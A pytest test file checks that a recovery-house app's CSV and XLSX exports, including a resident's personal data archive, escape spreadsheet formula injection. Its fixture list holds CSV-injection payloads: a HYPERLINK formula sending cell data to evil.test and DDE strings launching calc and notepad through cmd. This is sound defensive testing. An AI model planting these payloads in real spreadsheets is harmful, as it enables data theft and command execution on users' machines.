"""Every CSV and XLSX file the app writes, made from data full of text a spreadsheet would run
as a formula: the report with per-resident rows in each format, and a resident's /me/data/
archive. No cell may be a formula, and no text cell may start like one; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
import time_machine
from openpyxl import load_workbook

from chores.models import Assignment, Chore
from meetings.models import OutsideMeeting
from peerlog.models import Entry, Pairing
from reports import exports, figures
from reports.figures import Month
from tests.factories import make_assignment, make_resident

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
OCTOBER = Month.of(2026, 10)


@pytest.fixture
def hostile(harbor):
    """A house, residents, chores, notes and a mentor's log all typed as formulas."""
    harbor.name = HOSTILE[0]
    harbor.save()
    with time_machine.travel(dt.datetime(2026, 11, 20, 18, 0, tzinfo=dt.UTC), tick=False):
        mentor = make_resident(harbor, move_in=dt.date(2026, 9, 1), full_name=HOSTILE[1])
        mentee = make_resident(harbor, move_in=dt.date(2026, 9, 1), full_name=HOSTILE[2])
    mentee.preferred_name = HOSTILE[3]
    mentee.save()
    stay = mentee.stays.get()
    stay.bed = HOSTILE[4]
    stay.save()
    chore = Chore.objects.create(house=harbor, name=HOSTILE[5], area=HOSTILE[3])
    make_assignment(
        chore, dt.date(2026, 10, 5), mentee, status=Assignment.Status.DONE, note=HOSTILE[1]
    )
    # Completion falls from 100% in September to 50% in October: a change of -50 points.
    make_assignment(chore, dt.date(2026, 9, 5), mentee, status=Assignment.Status.DONE)
    make_assignment(chore, dt.date(2026, 10, 6), mentee, status=Assignment.Status.MISSED)
    OutsideMeeting.objects.create(
        resident=mentee, house=harbor, day=dt.date(2026, 10, 6), name=HOSTILE[2], fellowship="aa"
    )
    pairing = Pairing.objects.create(
        house=harbor, mentor=mentor, mentee=mentee, starts_on=dt.date(2026, 9, 2)
    )
    Entry.objects.create(
        pairing=pairing,
        author=mentor,
        at=dt.datetime(2026, 10, 7, 18, 0, tzinfo=dt.UTC),
        minutes=30,
        shared_note=HOSTILE[1],
    )
    return mentee


def _check_csv(name: str, data: bytes) -> list[str]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff"), f"{name} opens without the UTF-8 mark"
    cells = [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a number (a negative one) may start so
    return cells


def _check_xlsx(data: bytes) -> list:
    texts = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                texts.append(cell.value)
    return texts


def test_no_report_file_holds_a_formula(hostile, harbor):
    report = figures.build([harbor], OCTOBER, with_residents=True)
    texts = _check_xlsx(exports.to_xlsx(report))
    archive = zipfile.ZipFile(io.BytesIO(exports.to_csv(report)))
    for name in archive.namelist():
        if name.endswith(".csv"):
            texts += _check_csv(name, archive.read(name))
    # The hostile text is there, made plain (a house, a mentor, a preferred name)...
    for typed in (HOSTILE[0], HOSTILE[1], HOSTILE[3]):
        assert texts.count("'" + typed) >= 2, typed  # in the XLSX and in the CSV
    # ...and a fall in chore completion stays a negative number in both.
    assert -50.0 in texts and "-50.0" in texts


def test_no_file_in_my_data_holds_a_formula(client, hostile):
    client.force_login(hostile.user)
    response = client.get("/me/data/")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = [name for name in archive.namelist() if name.endswith(".csv")]
    assert {"stays.csv", "chores.csv", "peer_log.csv", "outside_meetings.csv"} <= set(names)
    cells = [cell for name in names for cell in _check_csv(name, archive.read(name))]
    for typed in HOSTILE:
        assert "'" + typed in cells, typed  # a house, a note, an outside meeting, a bed, a chore
